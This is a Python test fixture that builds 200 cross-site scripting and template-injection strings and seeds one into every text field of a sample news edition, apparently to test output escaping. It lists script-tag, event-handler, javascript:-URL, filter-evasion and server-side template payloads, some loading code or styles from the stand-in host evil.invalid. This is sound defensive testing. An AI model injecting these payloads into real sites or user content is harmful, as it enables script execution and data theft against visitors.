"""Two hundred pieces of hostile text, and an edition that carries one of them in every field that holds text."""

from typing import Any

import msgspec

from marsad.model.report import SetAside
from marsad.publish.edition import Edition
from publish.crisis import CHANGES, pictured, small

_BASES = [
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '" onmouseover="hit()',
    "' onfocus='hit()' autofocus='",
    "javascript:hit()",
    "<a href=javascript:hit()>x</a>",
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>hit()</script>'>",
    "</style><script>hit()</script>",
    "</title><script>hit()</script>",
    "<!--<script>hit()</script>-->",
    "--><script>hit()</script>",
    "{{ 7*7 }}{% raw %}",
    "{{ config.__class__ }}",
    "${hit()}",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=https://evil.invalid>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<form action=https://evil.invalid><input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<object data=data:text/html,x>",
    "<embed src=https://evil.invalid>",
    "<style>@import 'https://evil.invalid'</style>",
    "<body onload=hit()>",
    "\u202e<script>hit()</script>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#x3C;script>hit()</script>",
    "<scr\0ipt>hit()</scr\0ipt>",
    "<sCrIpT sRc=//evil.invalid></sCrIpT>",
    "<img src='https://evil.invalid/p.gif'>",
    "]]><script>hit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>",
    "<button popovertarget=x onclick=hit()>x</button>",
]
_WRAPS = ("{}", "Families fled {} at dawn", "{}{}", "x' {} \" y", "\u2066{}\u2069")
PAYLOADS = [wrap.replace("{}", base) for base in _BASES for wrap in _WRAPS]
_KEPT = {
    "id",
    "report",
    "kind",
    "type",
    "status",
    "role",
    "method",
    "measure",
    "per",
    "field",
    "sha256",
    "copy_of",
    "state",
    "grade",
    "verdict",
    "stance",
    "series",
    "claims",
    "superseded_by",
    "supersedes",
    "lead",
    "reports",
    "figures",
    "about",
    "country",
    "published_method",
    "subject",
    "certainty",
    "freshness",
    "part_of",
    "marks",
    "language",
}


def poisoned(start: int = 0) -> Edition:
    """The small crisis with a payload in every text; another one in each, beginning with the one given."""
    desk = small()
    sow = _Sower(start)
    reports, claims = [], []
    for report in desk.reports:
        made = sow.struct(report)
        text = sow.next() + " " + report.text
        reports.append(msgspec.structs.replace(made, text=text, url=sow.next() if sow.at % 2 else "javascript:hit()"))
    by_id = {r.id: r for r in reports}
    for claim in desk.claims:
        text = by_id[claim.report].text
        evidence = msgspec.structs.replace(claim.evidence, start=0, end=min(len(text), 60), text=text[:60])
        claims.append(msgspec.structs.replace(sow.struct(claim), evidence=evidence))
    picture = sow.struct(pictured(desk))
    return Edition(
        reports=tuple(reports),
        claims=tuple(claims),
        picture=picture,
        changes=tuple(sow.struct(c) for c in CHANGES),
        set_aside=(SetAside(sow.next(), sow.next(), sow.next()),),
        title=sow.next(),
    )


class _Sower:
    def __init__(self, start: int) -> None:
        self.at = start

    def next(self) -> str:
        self.at += 1
        return PAYLOADS[self.at % len(PAYLOADS)]

    def struct(self, value: Any) -> Any:
        """The same value with a payload in each text that is not an id or a word of the vocabulary."""
        match value:
            case str():
                return self.next()
            case tuple():
                return tuple(self.struct(v) for v in value)
            case msgspec.Struct():
                fields = {f: self.struct(v) for f in value.__struct_fields__ if f not in _KEPT and (v := getattr(value, f)) is not None}
                nested = {
                    f: self.struct(v)
                    for f in ("figures", "marks")
                    if isinstance(v := getattr(value, f, None), tuple) and v and isinstance(v[0], msgspec.Struct)
                }
                return msgspec.structs.replace(value, **fields, **nested)
        return value
